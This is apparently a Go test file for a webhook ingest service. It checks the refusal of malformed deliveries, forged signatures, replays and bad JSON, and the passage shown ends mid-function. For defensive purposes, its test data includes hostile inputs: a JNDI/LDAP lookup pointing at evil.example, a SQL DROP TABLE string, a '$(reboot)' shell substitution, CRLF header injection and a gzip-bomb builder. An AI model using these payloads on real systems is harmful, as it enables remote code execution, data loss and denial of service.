package ingest_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hookonce/hookonce/pkg/signature"
	"github.com/hookonce/hookonce/pkg/webhook"
)

// The numbers in front of the names are those of our catalogue of bad inputs.
// What needs a connection is in wire_test.go.

var (
	noSource   = answer{"error", "No such source.", "unknown"}
	onlyPost   = answer{"error", "Only POST is allowed.", "unknown"}
	unverified = answer{"error", "Signature verification failed.", "unknown"}
	notJSON    = answer{"error", "Content-Type must be application/json.", "unknown"}
	notOnce    = answer{"error", "Content-Type must be given once.", "unknown"}
	notUTF8    = answer{"error", "charset must be utf-8.", "unknown"}
	noEncoding = answer{"error", "Content-Encoding must not be used.", "unknown"}
)

func TestCatalogueHead(t *testing.T) {
	t.Parallel()
	contentType := func(values ...string) func(*delivery) {
		return func(d *delivery) { d.header["Content-Type"] = values }
	}
	tests := []struct {
		name  string
		spoil func(d *delivery)
		code  int
		want  answer
	}{
		{"1 unknown path", func(d *delivery) { d.target = "/webhook" }, 404, noSource},
		{"1 root", func(d *delivery) { d.target = "/" }, 404, noSource},
		{"1 unknown source", func(d *delivery) { d.target = "/webhooks/nobody" }, 404, noSource},
		{"1 GET of an unknown source", func(d *delivery) { d.method, d.target = "GET", "/webhooks/nobody" }, 404, noSource},
		{"3 GET", func(d *delivery) { d.method = "GET" }, 405, onlyPost},
		{"3 PUT", func(d *delivery) { d.method = "PUT" }, 405, onlyPost},
		{"3 PATCH", func(d *delivery) { d.method = "PATCH" }, 405, onlyPost},
		{"3 DELETE", func(d *delivery) { d.method = "DELETE" }, 405, onlyPost},
		{"3 TRACE", func(d *delivery) { d.method = "TRACE" }, 405, onlyPost},
		{"3 post", func(d *delivery) { d.method = "post" }, 405, onlyPost},
		{"4 HEAD, where nobody probes", func(d *delivery) { d.method = "HEAD" }, 405, onlyPost},
		{"5 OPTIONS", func(d *delivery) {
			d.method = "OPTIONS"
			d.header.Set("Origin", "https://evil.example")
			d.header.Set("Access-Control-Request-Method", "POST")
		}, 405, onlyPost},
		{"13 one byte over the cap", func(d *delivery) { d.target, d.body = "/webhooks/small", strings.Repeat("1", smallCap+1) }, 413,
			answer{"error", "Payload too large: the limit is 64 bytes.", "unknown"}},
		{"19 no Content-Type", contentType(), 415, notOnce},
		{"20 text", contentType("text/plain"), 415, notJSON},
		{"20 form", contentType("application/x-www-form-urlencoded"), 415, notJSON},
		{"20 text/json", contentType("text/json"), 415, notJSON},
		{"20 empty", contentType(""), 415, notJSON},
		{"20 garbage", contentType("application/json; ="), 415, notJSON},
		{"20 near miss", contentType("application/jsonp"), 415, notJSON},
		{"21 UTF-16", contentType("application/json; charset=utf-16"), 415, notUTF8},
		{"21 two charsets", contentType("application/json; charset=utf-8; charset=utf-16"), 415, notJSON},
		{"21 twice", contentType("application/json", "application/json"), 415, notOnce},
		{"21 two types", contentType("application/json", "text/plain"), 415, notOnce},
		{"23 gzip", func(d *delivery) { d.header.Set("Content-Encoding", "gzip") }, 415, noEncoding},
		{"23 deflate after identity", func(d *delivery) { d.header["Content-Encoding"] = []string{"identity", "deflate"} }, 415, noEncoding},
		// 413 by the catalogue; nothing is inflated, so there is no bomb.
		{"24 zip bomb", func(d *delivery) { d.header.Set("Content-Encoding", "gzip"); d.body = bomb(t) }, 415, noEncoding},
		{"25 multipart", contentType(`multipart/form-data; boundary="x"`), 415, notJSON},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toStripe(t, `{}`, noon)
			tt.spoil(&d)
			checkRefused(t, d, tt.code, tt.want)
		})
	}
}

// bomb is 2 MiB of nothing, in 2 kB: more than the cap.
func bomb(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write(make([]byte, 2<<20))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestCatalogueHeadAccepted(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		spoil func(d *delivery)
	}{
		{"valid", func(*delivery) {}},
		{"7 secret in the query", func(d *delivery) { d.target += "?token=" + canary }},
		{"20 with a suffix", func(d *delivery) { d.header.Set("Content-Type", "application/cloudevents+json") }},
		{"21 UTF-8", func(d *delivery) { d.header.Set("Content-Type", `Application/JSON; Charset="UTF-8"`) }},
		{"23 identity", func(d *delivery) { d.header.Set("Content-Encoding", "identity") }},
		{"36 the new secret", func(d *delivery) { d.target = "/webhooks/" + rotated }},
		{"71 CR and LF", func(d *delivery) { d.header.Set("X-GitHub-Hook-ID", "a\r\nlevel=ERROR") }},
		{"71 ANSI codes", func(d *delivery) { d.header.Set("User-Agent", "\x1b[2J\x1b[31m") }},
		{"71 lookup", func(d *delivery) { d.header.Set("X-GitHub-Hook-ID", "${jndi:ldap://evil.example/a}") }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toGitHub(t, `{}`)
			tt.spoil(&d)
			checkHeld(t, d, "d-1")
		})
	}
}

func TestCatalogueSizes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		target  string
		size    int
		limit   int // 0: accepted
		counted bool
	}{
		// 13, and field report A82: GitHub sends up to 25 MB.
		{"/webhooks/small", smallCap, 0, true},
		{"/webhooks/small", smallCap, 0, false},
		{"/webhooks/small", smallCap + 1, smallCap, true},
		{"/webhooks/small", smallCap + 1, smallCap, false},
		{"/webhooks/github", 100_000, 0, true},
		{"/webhooks/github", 1 << 20, 0, true},
		{"/webhooks/github", 1 << 20, 0, false},
		{"/webhooks/github", 1<<20 + 1, 1 << 20, true},
		{"/webhooks/github", 1<<20 + 1, 1 << 20, false},
		{"/webhooks/large", 25<<20 - 1, 0, true},
		{"/webhooks/large", 25<<20 + 1, 25 << 20, false},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprint(tt.target, tt.size, tt.counted), func(t *testing.T) {
			t.Parallel()
			d := toGitHub(t, `"`+strings.Repeat("x", tt.size-2)+`"`)
			if tt.limit == 0 {
				d = toGitHub(t, `{"a":"`+strings.Repeat("x", tt.size-8)+`"}`)
			}
			d.target = tt.target
			r, req := newRig(t), d.request()
			if !tt.counted {
				req.ContentLength = -1
			}
			w := httptest.NewRecorder()
			r.ServeHTTP(w, req)
			code, held, message := 200, 1, "Event accepted for processing."
			if tt.limit > 0 {
				code, held, message = 413, 0, fmt.Sprintf("Payload too large: the limit is %d bytes.", tt.limit)
			}
			if got, err := parse(w.Body.Bytes()); w.Code != code || got.Message != message || err != nil {
				t.Errorf("answer = %d %+v, %v, want %d %s", w.Code, got, err, code, message)
			}
			if events := r.queue.got(); len(events) != held || held > 0 && string(events[0].Body) != d.body {
				t.Errorf("the queue got %d events, want %d as sent", len(events), held)
			}
		})
	}
}

func TestCatalogueGitHubSignature(t *testing.T) {
	t.Parallel()
	const header, body = "X-Hub-Signature-256", `{"a": "b"}`
	good := toGitHub(t, body).header.Get(header)
	mac := strings.TrimPrefix(good, "sha256=")
	raw, err := hex.DecodeString(mac)
	if err != nil {
		t.Fatal(err)
	}
	value := func(values ...string) func(*delivery) { return func(d *delivery) { d.header[header] = values } }
	tests := []struct {
		name  string
		spoil func(d *delivery)
	}{
		{"27 twice", value(good, good)},
		{"27 a right one after a wrong one", value("sha256="+strings.Repeat("0", 64), good)},
		{"27 two in one", value(good + "," + good)},
		{"28 wrong", value("sha256=" + strings.Repeat("0", 64))},
		{"29 base64", value("sha256=" + base64.StdEncoding.EncodeToString(raw))},
		{"29 raw bytes", value("sha256=" + string(raw))},
		{"30 missing", value()},
		{"31 empty", value("")},
		{"31 prefix only", value("sha256=")},
		{"31 no prefix", value(mac)},
		{"31 A61 no =", value("sha256" + mac)},
		{"31 A61 two bytes", value("sha256=abcd")},
		{"31 A61 63 digits", value("sha256=" + mac[:63])},
		{"31 A61 65 digits", value("sha256=" + mac + "0")},
		{"31 66 digits", value("sha256=" + mac + "00")},
		{"31 A61 no hex", value("sha256=" + strings.Repeat("zz", 32))},
		{"31 A61 1 MB of hex", value("sha256=" + strings.Repeat("ab", 1<<19))},
		{"32 unknown version", value("v9=" + mac)},
		{"33 SHA-1 only", func(d *delivery) {
			sha1 := signature.GitHub()
			sha1.Header, sha1.Algorithm, sha1.Prefix = "X-Hub-Signature", "sha1", "sha1="
			d.header.Del(header)
			d.header.Set("X-Hub-Signature", signed(t, verifier(t, sha1, secret), "", body, noon).Get("X-Hub-Signature"))
		}},
		{"33 SHA-1 in the place of SHA-256", value("sha1=" + mac[:40])},
		{"36 old secret after the overlap", func(d *delivery) { d.header[header] = signedWith(t, oldOne, body) }},
		{"37 secret of another source", func(d *delivery) { d.header[header] = signedWith(t, "another-"+canary, body) }},
		{"37 to another source", func(d *delivery) { d.target = "/webhooks/other" }},
		{"39 re-encoded", func(d *delivery) { d.body = `{"a":"b"}` }},
		{"40 one space", func(d *delivery) { d.body += " " }},
		{"40 empty", func(d *delivery) { d.body = "" }},
		{"40 not JSON, unsigned", func(d *delivery) { d.body = "{" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toGitHub(t, body)
			tt.spoil(&d)
			checkRefused(t, d, 401, unverified)
		})
	}
	// What looks odd and is right all the same.
	d := toGitHub(t, body)
	d.header.Set(header, "sha256="+strings.ToUpper(mac))
	checkHeld(t, d, "d-1") // 29: either case of hex
	d.header[header] = signedWith(t, oldOne, body)
	d.target = "/webhooks/" + rotated
	checkHeld(t, d, "d-1") // 36: inside the overlap
}

func signedWith(t *testing.T, secret, body string) []string {
	t.Helper()
	return signed(t, verifier(t, signature.GitHub(), secret), "", body, noon)["X-Hub-Signature-256"]
}

func TestCatalogueStripeSignature(t *testing.T) {
	t.Parallel()
	const header, body = "Stripe-Signature", `{"id":"evt_1","type":"x"}`
	good := toStripe(t, body, noon).header.Get(header) // t=…,v1=…
	stamp, mac, _ := strings.Cut(good, ",v1=")
	at := func(text string) string { return "t=" + text + ",v1=" + mac }
	sent := func(d time.Duration) string { return toStripe(t, body, noon.Add(d)).header.Get(header) }
	tests := []struct{ name, value string }{
		{"28 wrong", stamp + ",v1=" + strings.Repeat("0", 64)},
		{"31 without signature", stamp},
		{"31 empty signature", stamp + ",v1="},
		{"32 v0 only", stamp + ",v0=" + mac},
		{"32 v9 only", stamp + ",v9=" + mac},
		{"35 10,000 signatures, the last one right", stamp + strings.Repeat(",v1="+strings.Repeat("0", 64), 9_999) + ",v1=" + mac},
		{"35 50 signatures, the last one right", stamp + strings.Repeat(",v1="+strings.Repeat("0", 64), 49) + ",v1=" + mac},
		{"41 no timestamp", "v1=" + mac},
		{"41 two timestamps", stamp + "," + good},
		{"41 empty", at("")},
		{"41 no number", at("noon")},
		{"41 A63 negative", at("-1")},
		{"41 A63 zero", at("0")},
		{"41 with a sign", at("+" + strconv.FormatInt(noon.Unix(), 10))},
		{"41 1e20", at("1e20")},
		{"41 A63 2^63", at("9223372036854775808")},
		{"41 milliseconds", at(strconv.FormatInt(noon.UnixMilli(), 10))},
		{"41 microseconds", at(strconv.FormatInt(noon.UnixMicro(), 10))},
		{"41 RFC 3339", at(noon.Format(time.RFC3339))},
		{"41 another time than was signed", at(strconv.FormatInt(noon.Unix()+1, 10))},
		{"42 too old", sent(-5*time.Minute - time.Second)},
		{"43 too far ahead", sent(5*time.Minute + time.Second)},
		{"43 A63 an hour ahead", sent(time.Hour)},
		{"43 A63 ten years ahead", sent(10 * 365 * 24 * time.Hour)},
		{"43 the last time that can be written", at("999999999999")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toStripe(t, body, noon)
			d.header.Set(header, tt.value)
			checkRefused(t, d, 401, unverified)
		})
	}
	for _, value := range []string{good, sent(-5 * time.Minute), sent(5 * time.Minute), stamp + ",v1=" + strings.Repeat("0", 64) + ",v0=x,v1=" + mac} {
		d := toStripe(t, body, noon)
		d.header.Set(header, value)
		checkHeld(t, d, "evt_1")
	}
}

func TestCatalogueStandardSignature(t *testing.T) {
	t.Parallel()
	const body = `{"type":"x"}`
	good := toStandard(t, body, noon).header
	signed, stamp := good.Get("Webhook-Signature"), good.Get("Webhook-Timestamp")
	mac := strings.TrimPrefix(signed, "v1,")
	raw, err := base64.StdEncoding.DecodeString(mac)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, header string
		values       []string
	}{
		{"27 signature twice", "Webhook-Signature", []string{signed, signed}},
		{"27 timestamp twice", "Webhook-Timestamp", []string{stamp, stamp}},
		{"27 id twice", "Webhook-Id", []string{"msg_1", "msg_1"}},
		{"29 hex", "Webhook-Signature", []string{"v1," + hex.EncodeToString(raw)}},
		{"29 no padding", "Webhook-Signature", []string{strings.TrimRight(signed, "=")}},
		{"29 upper case", "Webhook-Signature", []string{"v1," + strings.ToUpper(mac)}},
		{"30 no signature", "Webhook-Signature", nil},
		{"31 prefix only", "Webhook-Signature", []string{"v1,"}},
		{"32 asymmetric only", "Webhook-Signature", []string{"v1a," + mac}},
		{"32 v9 only", "Webhook-Signature", []string{"v9," + mac}},
		{"35 10,000 signatures", "Webhook-Signature", []string{strings.Repeat("v1,AAAA ", 10_000) + signed}},
		{"41 no timestamp", "Webhook-Timestamp", nil},
		{"41 milliseconds", "Webhook-Timestamp", []string{stamp + "000"}},
		{"41 negative", "Webhook-Timestamp", []string{"-" + stamp}},
		{"45 another id than was signed", "Webhook-Id", []string{"msg_2"}},
		{"45 no id", "Webhook-Id", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toStandard(t, body, noon)
			d.header[tt.header] = tt.values
			checkRefused(t, d, 401, unverified)
		})
	}
	d := toStandard(t, body, noon)
	d.header.Set("Webhook-Signature", "v1a,AAAA v1,AAAA "+signed)
	checkHeld(t, d, "msg_1")
}

// 44: an exact replay inside the tolerance is a duplicate of what it replays.
func TestCatalogueReplay(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.queue.answer = func(_ context.Context, ev webhook.Event) (webhook.Receipt, error) {
		if first := r.queue.got()[0]; len(r.queue.got()) > 1 && first.ID == ev.ID && first.SHA256 == ev.SHA256 {
			return webhook.Receipt{Outcome: webhook.Duplicate, Layer: "taskid"}, nil
		}
		return webhook.Receipt{Outcome: webhook.Accepted}, nil
	}
	d := toStripe(t, `{"id":"evt_1","type":"x"}`, noon)
	for _, want := range []string{"accepted", "duplicate", "duplicate"} {
		w := r.send(d)
		if got, err := parse(w.Body.Bytes()); w.Code != 200 || got.Status != want || got.EventID != "evt_1" || err != nil {
			t.Errorf("answer = %d %+v, %v, want %s", w.Code, got, err, want)
		}
	}
}

// deep is depth arrays inside each other.
func deep(depth int) string { return strings.Repeat("[", depth) + strings.Repeat("]", depth) }

// By the catalogue a delivery that is authentic and cannot be read goes to a
// quarantine. There is none: the log has its hash, and the provider is told.
func TestCataloguePayload(t *testing.T) {
	t.Parallel()
	const id, typ, rest = `"event_id":"evt_1"`, `"event_type":"payment.captured"`, `"amount":1099,"timestamp":1700000000`
	with := func(parts ...string) string { return "{" + strings.Join(parts, ",") + "}" }
	ofID := func(json string) string { return with(`"event_id":`+json, typ, rest) }
	ofType := func(json string) string { return with(id, `"event_type":`+json, rest) }
	ofAmount := func(json string) string { return with(id, typ, `"amount":`+json, `"timestamp":1700000000`) }
	ofTime := func(json string) string { return with(id, typ, `"amount":1099`, `"timestamp":`+json) }
	tests := []struct{ name, body, reason, id string }{
		{"49 nothing", ``, "empty body", ""},
		{"49 white space", " \r\n", "empty body", ""},
		{"50 something after it", payment + "x", "must be one JSON value and nothing after it", ""},
		{"50 a second value", payment + "\n" + payment, "must be one JSON value and nothing after it", ""},
		{"50 a NUL after it", payment + "\x00", "must be one JSON value and nothing after it", ""},
		{"51 byte order mark", "\uFEFF" + payment, "starts with a byte order mark", ""},
		{"52 array", "[" + payment + "]", "is not a JSON object", ""},
		{"52 empty array", "[]", "is not a JSON object", ""},
		{"52 string", `"evt_1"`, "is not a JSON object", ""},
		{"52 empty string", `""`, "is not a JSON object", ""},
		{"52 number", `1`, "is not a JSON object", ""},
		{"52 null", `null`, "is not a JSON object", ""},
		{"53 depth of 129", with(`"data":`+deep(128), id, typ, rest), "/data" + strings.Repeat("/0", 57) + ": nested deeper than 128", ""},
		{"53 depth of 10,001", deep(10_001), strings.Repeat("/0", 60) + ": nested deeper than 128", ""},
		{"53 depth of 200,000, never closed", strings.Repeat("[", 200_000), strings.Repeat("/0", 60) + ": nested deeper than 128", ""},
		{"54 A68 id twice", with(id, `"event_id":"evt_2"`, typ, rest), `/event_id: duplicate key "event_id"`, ""},
		{"54 A68 id twice, the other way round", with(`"event_id":"evt_2"`, id, typ, rest), `/event_id: duplicate key "event_id"`, ""},
		{"54 id twice, once escaped", with(id, `"event\u005fid":"evt_2"`, typ, rest), `/event_id: duplicate key "event_id"`, ""},
		{"54 any key twice, deep inside", with(`"data":{"a":[{"b":1,"b":1}]}`, id, typ, rest), `/data/a/0/b: duplicate key "b"`, ""},
		{"55 id and ID", with(id, `"EVENT_ID":"evt_2"`, typ, rest), `/event_id: keys "event_id" and "EVENT_ID" differ only in case`, ""},
		{"55 ID and id", with(`"Event_Id":"evt_2"`, id, typ, rest), `/event_id: keys "event_id" and "Event_Id" differ only in case`, ""},
		{"55 amount and Amount", with(id, typ, rest, `"Amount":1`), `/amount: keys "amount" and "Amount" differ only in case`, ""},
		{"55 ID only", with(`"EVENT_ID":"evt_1"`, typ, rest), "event_id: is missing", ""},
		{"56 no id", with(typ, rest), "event_id: is missing", ""},
		{"56 empty object", "{}", "event_id: is missing", ""},
		{"56 null", ofID("null"), "event_id: is null, want a string", ""},
		{"56 empty", ofID(`""`), "event_id: is empty", ""},
		{"56 blank", ofID(`" "`), "event_id: is blank", ""},
		{"56 blank in another script", ofID("\"\u3000\u00a0\""), "event_id: is blank", ""},
		{"57 number", ofID("10002318"), "event_id: is a number, want a string", ""},
		{"57 large number", ofID("12345678901234567890"), "event_id: is a number, want a string", ""},
		{"57 bool", ofID("true"), "event_id: is a bool, want a string", ""},
		{"57 object", ofID(`{"id":"evt_1"}`), "event_id: is an object, want a string", ""},
		{"57 array", ofID(`["evt_1"]`), "event_id: is an array, want a string", ""},
		{"58 A71 256 bytes", ofID(`"` + strings.Repeat("x", 256) + `"`), "event_id: is longer than 255 bytes", ""},
		{"58 64 characters of four bytes", ofID(`"` + strings.Repeat("🪝", 64) + `"`), "event_id: is longer than 255 bytes", ""},
		{"58 64 of them, escaped", ofID(`"` + strings.Repeat(`\ud83e\ude9d`, 64) + `"`), "event_id: is longer than 255 bytes", ""},
		{"58 A71 10,000 bytes", ofID(`"` + strings.Repeat("x", 10_000) + `"`), "event_id: is longer than 255 bytes", ""},
		{"59 A70 NUL", ofID(`"a\u0000b"`), "event_id: has a control character", ""},
		{"59 LF", ofID(`"a\n"`), "event_id: has a control character", ""},
		{"59 CR and LF", ofID(`"a\r\nb"`), "event_id: has a control character", ""},
		{"59 escape", ofID(`"\u001b[2J"`), "event_id: has a control character", ""},
		{"59 DEL", ofID("\"a\x7f\""), "event_id: has a control character", ""},
		{"59 C1", ofID(`"a\u0085b"`), "event_id: has a control character", ""},
		{"63 lone surrogate in the id", ofID(`"a\ud800"`), "event_id: holds half of a surrogate pair", ""},
		{"64 invalid UTF-8", with(id, typ, rest, "\"a\":\"\xff\""), "invalid UTF-8", ""},
		{"64 a surrogate as bytes", with(id, typ, rest, "\"a\":\"\xed\xa0\x80\""), "invalid UTF-8", ""},
		{"64 cut in a character", payment[:len(payment)-1] + ",\"a\":\"\xf0\x9f\xaa", "invalid UTF-8", ""},
		{"69 no type", with(id, rest), "event_type: is missing", "evt_1"},
		{"69 null", ofType("null"), "event_type: is null, want a string", "evt_1"},
		{"69 empty", ofType(`""`), "event_type: is empty", "evt_1"},
		{"69 number", ofType("1"), "event_type: is a number, want a string", "evt_1"},
		{"69 256 bytes", ofType(`"` + strings.Repeat("x", 256) + `"`), "event_type: is longer than 255 bytes", "evt_1"},
		{"69 control character", ofType(`"a\u0007"`), "event_type: has a control character", "evt_1"},
		{"amount missing", with(id, typ, `"timestamp":1`), "amount: is missing", "evt_1"},
		{"amount null", ofAmount("null"), "amount: is null, want an integer", "evt_1"},
		{"amount in quotes", ofAmount(`"1099"`), "amount: is a string, want an integer", "evt_1"},
		{"amount a bool", ofAmount(`true`), "amount: is a bool, want an integer", "evt_1"},
		{"amount 1e3", ofAmount("1e3"), "amount: 1e3 is not an integer literal", "evt_1"},
		{"amount 1.0", ofAmount("1.0"), "amount: 1.0 is not an integer literal", "evt_1"},
		{"amount -0", ofAmount("-0"), "amount: -0 is not an integer literal", "evt_1"},
		{"amount negative", ofAmount("-1"), "amount: is negative", "evt_1"},
		{"amount 2^63", ofAmount("9223372036854775808"), "amount: is out of range", "evt_1"},
		{"amount of 30 digits", ofAmount("123456789012345678901234567890"), "amount: is out of range", "evt_1"},
		{"timestamp missing", with(id, typ, `"amount":1`), "timestamp: is missing", "evt_1"},
		{"timestamp 0", ofTime("0"), "timestamp: is not positive", "evt_1"},
		{"timestamp negative", ofTime("-1"), "timestamp: is not positive", "evt_1"},
		{"timestamp a text", ofTime(`"2030-01-02T12:00:00Z"`), "timestamp: is a string, want an integer", "evt_1"},
		{"timestamp with a fraction", ofTime(`1700000000.5`), "timestamp: 1700000000.5 is not an integer literal", "evt_1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			id := tt.id
			if id == "" {
				id = "unknown"
			}
			checkRefused(t, toDefault(tt.body), 400, answer{"error", "Invalid payload: " + tt.reason + ".", id})
		})
	}
}

// 49: the words behind the place are the parser's own.
func TestCatalogueBrokenJSON(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, body string
		place      string // in the message
	}{
		{"cut", payment[:20], "broken JSON at byte 20: "},
		{"form", "a=b", "broken JSON at byte 0: "},
		{"single quotes", `{'event_id':'evt_1'}`, "broken JSON at byte 1: "},
		{"comma at the end", payment[:len(payment)-1] + ",}", "broken JSON at byte 88: "},
		{"wrong bracket", payment[:len(payment)-1] + "]", "broken JSON at byte 88: "},
		{"NaN", strings.Replace(payment, "1099", "NaN", 1), "/amount: broken JSON at byte 61: "},
		{"UTF-16", "{\x00}\x00", "broken JSON at byte 1: "},
		{"tab inside a text", strings.Replace(payment, "evt_1", "evt\t1", 1), "/event_id: broken JSON at byte 16: "},
		{"signed", `{"id":"evt_1"`, "broken JSON at byte 13: "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toDefault(tt.body)
			if tt.name == "signed" {
				d = toStripe(t, tt.body, noon)
			}
			r := newRig(t)
			w := r.send(d)
			got, err := parse(w.Body.Bytes())
			if w.Code != 400 || got.Status != "error" || got.EventID != "unknown" || !strings.HasPrefix(got.Message, "Invalid payload: "+tt.place) || err != nil {
				t.Errorf("answer = %d %+v, %v, want 400 %s", w.Code, got, err, tt.place)
			}
			if n := len(r.queue.got()); n != 0 {
				t.Errorf("the queue got %d events", n)
			}
		})
	}
}

// The same with a signature that is right.
func TestCatalogueSignedPayload(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, body, reason, id string }{
		{"51 byte order mark", "\uFEFF" + `{"id":"evt_1","type":"x"}`, "starts with a byte order mark", "unknown"},
		{"52 array", `[{"id":"evt_1","type":"x"}]`, "is not a JSON object", "unknown"},
		{"53 depth", `{"id":"evt_1","type":"x","data":` + deep(10_001) + `}`, "/data" + strings.Repeat("/0", 57) + ": nested deeper than 128", "unknown"},
		{"55 id and ID", `{"id":"evt_1","ID":"evt_2","type":"x"}`, `/id: keys "id" and "ID" differ only in case`, "unknown"},
		{"57 number", `{"id":1,"type":"x"}`, "id: is a number, want a string", "unknown"},
		{"64 invalid UTF-8", "{\"id\":\"evt_\xff\",\"type\":\"x\"}", "invalid UTF-8", "unknown"},
		{"69 no type", `{"id":"evt_1"}`, "type: is missing", "evt_1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			checkRefused(t, toStripe(t, tt.body, noon), 400, answer{"error", "Invalid payload: " + tt.reason + ".", tt.id})
		})
	}
}

// Ids in a header that nobody signed.
func TestCatalogueHeaderID(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		values []string
		reason string // "": held as it is
	}{
		{"56 missing", nil, "is missing"},
		{"56 empty", []string{""}, "is empty"},
		{"56 blank", []string{" "}, "is blank"},
		{"56 twice", []string{"d-1", "d-1"}, "is there more than once"},
		{"58 256 bytes", []string{strings.Repeat("x", 256)}, "is longer than 255 bytes"},
		{"58 255 bytes", []string{strings.Repeat("x", 255)}, ""},
		{"59 tab", []string{"a\tb"}, "has a control character"},
		{"59 CR and LF", []string{"a\r\nX-Evil: 1"}, "has a control character"},
		{"59 quotes, colons, braces", []string{`a"b:c{d}'*`}, ""},
		{"64 Latin-1", []string{"caf\xe9"}, "is not UTF-8"},
		{"emoji", []string{"🪝"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := toGitHub(t, `{}`)
			d.header[http.CanonicalHeaderKey("X-GitHub-Delivery")] = tt.values
			if tt.reason == "" {
				checkHeld(t, d, tt.values[0])
				return
			}
			checkRefused(t, d, 400, answer{"error", "Invalid payload: X-GitHub-Delivery: " + tt.reason + ".", "unknown"})
		})
	}
}

// What is odd and accepted, with every byte of it.
func TestCatalogueHeld(t *testing.T) {
	t.Parallel()
	const rest = `"event_type":"payment.captured","amount":1099,"timestamp":1700000000`
	ids := []struct{ name, json, id string }{
		{"58 A71 255 bytes", strings.Repeat("x", 255), strings.Repeat("x", 255)},
		{"58 64 bytes", strings.Repeat("x", 64), strings.Repeat("x", 64)},
		{"58 255 bytes, mostly of four-byte characters", strings.Repeat("🪝", 63) + "abc", strings.Repeat("🪝", 63) + "abc"},
		{"58 255 bytes, of longer escapes", strings.Repeat(`\u0041`, 255), strings.Repeat("A", 255)},
		{"59 quotes", `a\"b'c`, `a"b'c`},
		{"59 colons, braces, stars", `{a}:b:*`, "{a}:b:*"},
		{"59 slashes", `../../a\/b`, "../../a/b"},
		{"59 spaces", " a  b ", " a  b "},
		{"59 markup", `<b>&amp;</b>`, "<b>&amp;</b>"},
		{"59 line separator", `a\u2028b`, "a\u2028b"},
		{"59 A70 escaped escape of NUL", `a\\u0000b`, `a\u0000b`},
		{"59 the word unknown", "unknown", "unknown"},
		{"60 composed", "caf\u00e9", "caf\u00e9"},
		{"60 decomposed", "cafe\u0301", "cafe\u0301"},
		{"60 look-alike", "\u0435vt_1", "\u0435vt_1"},
		{"61 upper case", "EVT_1", "EVT_1"},
		{"61 lower case", "evt_1", "evt_1"},
		{"emoji", "👩‍👩‍👧", "👩‍👩‍👧"},
		{"69 digits in quotes", "9007199254740993", "9007199254740993"},
		{"72 SQL", `'; DROP TABLE received_events; --`, `'; DROP TABLE received_events; --`},
	}
	for _, tt := range ids {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			checkHeld(t, toDefault(`{"event_id":"`+tt.json+`",`+rest+`}`), tt.id)
		})
	}
	bodies := []struct{ name, body string }{
		{"54 the same key in two objects", strings.Replace(payment, "{", `{"data":{"event_id":"x"},`, 1)},
		{"53 depth of 128", strings.Replace(payment, "{", `{"data":`+deep(127)+",", 1)},
		{"63 lone surrogate", strings.Replace(payment, "{", `{"a\udfff":"\ud800",`, 1)},
		{"65 amount of 2^53+1", strings.Replace(payment, "1099", "9007199254740993", 1)},
		{"65 amount of 2^63-1", strings.Replace(payment, "1099", "9223372036854775807", 1)},
		{"65 amount of 0", strings.Replace(payment, "1099", "0", 1)},
		{"65 numbers that no float holds", strings.Replace(payment, "{", `{"n":[9007199254740993,1e999,-0,1.50,0.123456789012345678901234567890],`, 1)},
		{"67 unknown fields", strings.Replace(payment, "{", `{"new":{"a":[null,true]},"":0,`, 1)},
		{"A70 NUL, escaped", strings.Replace(payment, "{", `{"a\u0000":"\u0000 \\u0000",`, 1)},
		{"72 SQL, shell and templates", strings.Replace(payment, "{", `{"a":"'; DROP TABLE x; --","b":"$(reboot)","c":"{{.}} ${jndi:ldap://evil.example}",`, 1)},
		{"85 dated at the beginning", strings.Replace(payment, "1700000000", "1", 1)},
		{"85 dated far ahead", strings.Replace(payment, "1700000000", "99999999999", 1)},
		{"A51 odd spacing, order and escapes", "\r\n\t{ \"timestamp\":1700000000 ,\"amount\" : 1099, \"url\":\"https:\\/\\/a\", \"n\":1.0,\n\"event_type\":\"\\u0070ayment.captured\",\"event_id\":\"\\u0065vt_1\" }\r\n "},
		{"A53 emoji", strings.Replace(payment, "{", `{"a":"👩‍👩‍👧 \ud83e\ude9d 🪝",`, 1)},
	}
	for _, tt := range bodies {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if ev := checkHeld(t, toDefault(tt.body), "evt_1"); ev.Type != "payment.captured" {
				t.Errorf("type = %q", ev.Type)
			}
			checkHeld(t, toGitHub(t, tt.body), "d-1") // and signed
		})
	}
}

// 68: what no rule of the source knows goes to the worker, which records it.
// By the catalogue ingest itself would; it does not look at the rules.
func TestCatalogueUnknownType(t *testing.T) {
	t.Parallel()
	for _, typ := range []string{"x", "payment", "🪝", strings.Repeat("x", 255)} {
		if ev := checkHeld(t, toDefault(strings.Replace(payment, "payment.captured", typ, 1)), "evt_1"); ev.Type != typ {
			t.Errorf("type = %q, want %q", ev.Type, typ)
		}
	}
}

// 60 and 61: ids that only look alike are different events, each with its own answer.
func TestCatalogueLookAlikes(t *testing.T) {
	t.Parallel()
